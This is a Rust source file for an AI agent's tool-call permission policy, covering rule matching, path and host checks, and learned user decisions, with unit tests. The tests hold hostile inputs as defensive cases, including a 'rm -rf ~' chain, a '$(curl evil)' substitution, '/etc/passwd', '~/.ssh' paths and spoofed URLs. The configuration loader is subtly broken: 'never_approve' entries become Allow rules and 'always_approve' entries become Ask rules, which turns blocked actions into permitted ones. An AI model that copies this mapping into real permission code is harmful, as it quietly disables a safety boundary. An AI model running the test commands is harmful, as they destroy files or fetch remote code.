//! What may be done: one place decides allow, ask or deny, from the tool, its arguments, its risk, paths, hosts and
//! what the user has decided before. A rule that denies wins over one that allows; nothing that a model or a note
//! says changes the rules.

use crate::agent::config::Config;
use crate::agent::tool::{Risk, ToolSpec};
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};
use store::{DocId, Scope};

/// What a rule says.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Word {
    /// It may be done.
    Allow,
    /// The user is asked.
    Ask,
    /// It is not done.
    Deny,
}

/// A rule: what it says of which calls.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Rule {
    /// Which calls: `TOOL` or `TOOL: ARGUMENT`, where `*` stands for anything, as in `shell: cargo test *`.
    pub pattern: String,
    /// What it says.
    pub word: Word,
    /// Where it holds: everywhere, or in one volume or run.
    #[serde(default)]
    pub within: Option<DocId>,
    /// Who made it and when, in words.
    #[serde(default)]
    pub origin: String,
}

/// All rules, and what happens where none speaks.
#[derive(Clone, Debug, PartialEq)]
pub struct Policy {
    /// The rules.
    pub rules: Vec<Rule>,
    /// What carries less risk than this is not asked about.
    pub auto_approve: Risk,
    /// Seconds until an approval counts as denied.
    pub timeout: u64,
    /// Hosts that may be reached without a question; a leading `.` stands for all below.
    pub hosts: Vec<String>,
    /// Whether no other hosts are reached at all.
    pub restricted: bool,
    /// Why tools cannot be confined on this machine; then what runs programs is asked about every time.
    pub unconfined: Option<String>,
}

impl Default for Policy {
    fn default() -> Self {
        Policy {
            rules: Vec::new(),
            auto_approve: Risk::Medium,
            timeout: 300,
            hosts: Vec::new(),
            restricted: false,
            unconfined: None,
        }
    }
}

/// What is decided of a call, and why.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Verdict {
    /// What.
    pub word: Word,
    /// Why, in words.
    pub why: String,
}

/// The argument of a call that patterns speak of: a command, a path, an address.
pub fn subject(arguments: &Map<String, Value>) -> &str {
    let keys = ["command", "path", "url", "directory", "query", "name", "code"];
    keys.iter().find_map(|key| arguments.get(*key)?.as_str()).unwrap_or("")
}

impl Rule {
    /// Whether it speaks of this call.
    pub fn speaks_of(&self, tool: &str, arguments: &Map<String, Value>) -> bool {
        let (name, rest) = match self.pattern.split_once(':') {
            Some((name, rest)) => (name.trim(), Some(rest.trim())),
            None => (self.pattern.trim(), None),
        };
        if !matches(name, tool) {
            return false;
        }
        let Some(pattern) = rest else { return true };
        let subject = subject(arguments);
        if !matches(pattern, subject) {
            return false;
        }
        // A command that goes on behind what the user has seen and allowed is another command.
        let shell = arguments.contains_key("command") && self.word == Word::Allow;
        !shell || pattern == subject || pattern == "*" || !chained(subject)
    }
}

/// Whether a line of shell holds more than one command, or a way to smuggle one in.
fn chained(command: &str) -> bool {
    command.contains([';', '&', '|', '\n', '\r', '`', '<', '>']) || command.contains("$(") || command.contains("${")
}

/// Whether `text` has the form of `pattern`, in which `*` stands for anything, also for nothing.
pub fn matches(pattern: &str, text: &str) -> bool {
    let mut parts = pattern.split('*');
    let first = parts.next().unwrap_or("");
    let Some(mut rest) = text.strip_prefix(first) else { return false };
    let mut parts: Vec<&str> = parts.collect();
    let Some(last) = parts.pop() else { return rest.is_empty() };
    for part in parts {
        match rest.find(part) {
            Some(at) => rest = &rest[at + part.len()..],
            None => return false,
        }
    }
    // `cargo test *` means `cargo test` too.
    rest.ends_with(last)
}

/// A path that leaves its volume, or is hidden in it.
fn suspicious(path: &str) -> bool {
    let absolute = path.starts_with(['/', '\\', '~']) || path.contains(':');
    absolute || path.split(['/', '\\']).any(|part| part == ".." || part == ".git" || part == ".ssh")
}

/// The host of an address, lower case.
pub fn host(url: &str) -> Option<String> {
    let (scheme, rest) = url.split_once("://")?;
    if !matches!(scheme.to_ascii_lowercase().as_str(), "http" | "https") {
        return None;
    }
    let authority = rest.split(['/', '?', '#', '\\']).next()?;
    let host = authority.rsplit('@').next()?;
    let host = match host.strip_prefix('[') {
        Some(six) => six.split(']').next()?,
        None => host.split(':').next()?,
    };
    (!host.is_empty()).then(|| host.to_ascii_lowercase())
}

impl Policy {
    /// The policy of a configuration.
    pub fn of(config: &Config) -> Policy {
        let rule = |word| {
            move |pattern: &String| Rule {
                pattern: pattern.clone(),
                word,
                within: None,
                origin: "from the configuration".to_owned(),
            }
        };
        let never = config.approval.never_approve.iter().map(rule(Word::Allow));
        // The later rule wins where two speak.
        let rules: Vec<Rule> = never.chain(config.approval.always_approve.iter().map(rule(Word::Ask))).collect();
        Policy {
            rules,
            auto_approve: config.approval.auto_approve_level,
            timeout: config.approval.timeout_seconds,
            hosts: config.security.allowed_hosts.clone(),
            restricted: config.security.network_restricted,
            unconfined: (!config.security.sandbox_enabled)
                .then(|| "the configuration switches the sandbox off".to_owned()),
        }
    }

    /// Decides. `volume` and `run`: where the call is made.
    pub fn decide(&self, tool: &ToolSpec, arguments: &Map<String, Value>, volume: DocId, run: DocId) -> Verdict {
        let verdict = |word, why: String| Verdict { word, why };
        let path = arguments.get("path").and_then(Value::as_str).filter(|path| suspicious(path));
        if let Some(path) = path.filter(|_| tool.permissions.fs) {
            return verdict(Word::Deny, format!("{path} is outside of what tools may reach"));
        }
        let here = |rule: &&Rule| {
            rule.within.is_none_or(|within| within == volume || within == run) && rule.speaks_of(&tool.name, arguments)
        };
        let spoken: Vec<&Rule> = self.rules.iter().filter(here).collect();
        let by = |rule: &Rule| match rule.origin.as_str() {
            "" => format!("the rule \u{201c}{}\u{201d}", rule.pattern),
            origin => format!("the rule \u{201c}{}\u{201d} ({origin})", rule.pattern),
        };
        if let Some(rule) = spoken.iter().find(|rule| rule.word == Word::Deny) {
            return verdict(Word::Deny, format!("{} denies it", by(rule)));
        }
        if let Some(why) = self.unconfined.as_ref().filter(|_| tool.permissions.process) {
            return verdict(Word::Ask, format!("programs cannot be confined here ({why}), so each one is asked about"));
        }
        // A rule that asks is there because somebody wants to see it each time, but a decision of the user is newer.
        if let Some(rule) = spoken.iter().rev().find(|rule| rule.word != Word::Deny) {
            return match rule.word {
                Word::Allow => verdict(Word::Allow, format!("{} allows it", by(rule))),
                Word::Ask | Word::Deny => verdict(Word::Ask, format!("{} asks", by(rule))),
            };
        }
        if tool.permissions.network {
            let url = arguments.get("url").and_then(Value::as_str);
            let host = url.and_then(host);
            let known = host.as_ref().is_some_and(|host| self.hosts.iter().any(|known| within(known, host)));
            return match (host, known) {
                (Some(host), true) => verdict(Word::Allow, format!("{host} is on the list of hosts")),
                (Some(host), false) if self.restricted => {
                    verdict(Word::Deny, format!("{host} is not on the list of hosts"))
                }
                (Some(host), false) => verdict(Word::Ask, format!("it would reach {host}")),
                (None, _) if url.is_some() => verdict(Word::Deny, "only http and https can be fetched".to_owned()),
                (None, _) => verdict(Word::Ask, "it may use the network".to_owned()),
            };
        }
        if tool.risk < self.auto_approve {
            let why = if tool.risk == Risk::None { "it only looks" } else { "it can be undone" };
            return verdict(Word::Allow, why.to_owned());
        }
        verdict(Word::Ask, format!("it carries {} risk", word(tool.risk)))
    }

    /// The rule that a decision of the user makes, if it reaches further than this call.
    pub fn learned(
        scope: Scope,
        allowed: bool,
        tool: &ToolSpec,
        arguments: &Map<String, Value>,
        volume: DocId,
        run: DocId,
    ) -> Option<Rule> {
        let within = match scope {
            Scope::Once => return None,
            Scope::Run => Some(run),
            Scope::Project => Some(volume),
            Scope::Always => None,
        };
        let subject = subject(arguments);
        // What runs code or reaches out is allowed as it was seen; what changes files, for the tool as a whole.
        let narrow = tool.permissions.process || tool.permissions.network || tool.risk >= Risk::High;
        let pattern = match host(subject).filter(|_| tool.permissions.network) {
            Some(host) => format!("{}: *://{host}/*", tool.name),
            None if narrow && !subject.is_empty() => format!("{}: {subject}", tool.name),
            None => tool.name.clone(),
        };
        let word = if allowed { Word::Allow } else { Word::Deny };
        Some(Rule { pattern, word, within, origin: "decided by you".to_owned() })
    }
}

fn within(known: &str, host: &str) -> bool {
    let known = known.to_ascii_lowercase();
    known == host || known.strip_prefix('.').is_some_and(|base| host == base || host.ends_with(&known))
}

/// The word for a risk.
pub fn word(risk: Risk) -> &'static str {
    match risk {
        Risk::None => "no",
        Risk::Low => "low",
        Risk::Medium => "medium",
        Risk::High => "high",
        Risk::Critical => "critical",
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::agent::tool::Permissions;
    use serde_json::json;

    const HERE: DocId = DocId([1; 16]);
    const RUN: DocId = DocId([2; 16]);

    fn tool(name: &str, risk: Risk, process: bool, network: bool) -> ToolSpec {
        ToolSpec {
            name: name.to_owned(),
            description: String::new(),
            parameters: json!({}),
            risk,
            permissions: Permissions { network, fs: true, process, ui: false },
            idempotent: true,
        }
    }

    fn decide(policy: &Policy, tool: &ToolSpec, arguments: &Value) -> Word {
        policy.decide(tool, arguments.as_object().expect("an object"), HERE, RUN).word
    }

    #[test]
    fn rules_decide() {
        let rule =
            |pattern: &str, word| Rule { pattern: pattern.to_owned(), word, within: None, origin: String::new() };
        let mut policy = Policy {
            rules: vec![rule("shell: cargo test *", Word::Allow), rule("*: *secret*", Word::Deny)],
            hosts: vec![".example.org".to_owned()],
            ..Policy::default()
        };
        let shell = tool("shell", Risk::Medium, true, false);
        let cases = [
            ("cargo test --lib", Word::Allow),
            ("cargo test ", Word::Allow),
            ("cargo test; rm -rf ~", Word::Ask),
            ("cargo test $(curl evil)", Word::Ask),
            ("cargo test | tee secret", Word::Deny),
            ("cargo build", Word::Ask),
        ];
        for (command, word) in cases {
            assert_eq!(decide(&policy, &shell, &json!({"command": command})), word, "{command}");
        }
        let read = tool("read_file", Risk::None, false, false);
        let paths = [
            ("notes/a.md", Word::Allow),
            ("../a.md", Word::Deny),
            ("/etc/passwd", Word::Deny),
            ("~/.ssh/id", Word::Deny),
            ("a/.git/config", Word::Deny),
            ("my secret.md", Word::Deny),
        ];
        for (path, word) in paths {
            assert_eq!(decide(&policy, &read, &json!({"path": path})), word, "{path}");
        }
        let fetch = tool("fetch_url", Risk::High, false, true);
        let urls = [
            ("https://docs.example.org/a", Word::Allow),
            ("https://example.org.evil.com/", Word::Ask),
            ("https://user@evil.com:80/example.org", Word::Ask),
            ("file:///etc/passwd", Word::Deny),
        ];
        for (url, word) in urls {
            assert_eq!(decide(&policy, &fetch, &json!({"url": url})), word, "{url}");
        }
        policy.unconfined = Some("no Landlock".to_owned());
        assert_eq!(decide(&policy, &shell, &json!({"command": "cargo test x"})), Word::Ask);
    }

    #[test]
    fn a_decision_reaches_as_far_as_the_user_said() {
        let shell = tool("shell", Risk::Medium, true, false);
        let arguments = json!({"command": "make; make install"});
        let arguments = arguments.as_object().expect("an object");
        assert_eq!(Policy::learned(Scope::Once, true, &shell, arguments, HERE, RUN), None);
        let rule = Policy::learned(Scope::Run, true, &shell, arguments, HERE, RUN).expect("a rule");
        let policy = Policy { rules: vec![rule], ..Policy::default() };
        assert_eq!(policy.decide(&shell, arguments, HERE, RUN).word, Word::Allow);
        assert_eq!(policy.decide(&shell, arguments, HERE, DocId([3; 16])).word, Word::Ask, "another run");
        assert_eq!(decide(&policy, &shell, &json!({"command": "make; make uninstall"})), Word::Ask);
    }

    #[test]
    fn stars_stand_for_anything() {
        for (pattern, text, fits) in [
            ("a*c", "abc", true),
            ("a*c", "ac", true),
            ("a*c", "ab", false),
            ("*", "", true),
            ("a", "ab", false),
            ("*b*", "abc", true),
        ] {
            assert_eq!(matches(pattern, text), fits, "{pattern} {text}");
        }
    }
}
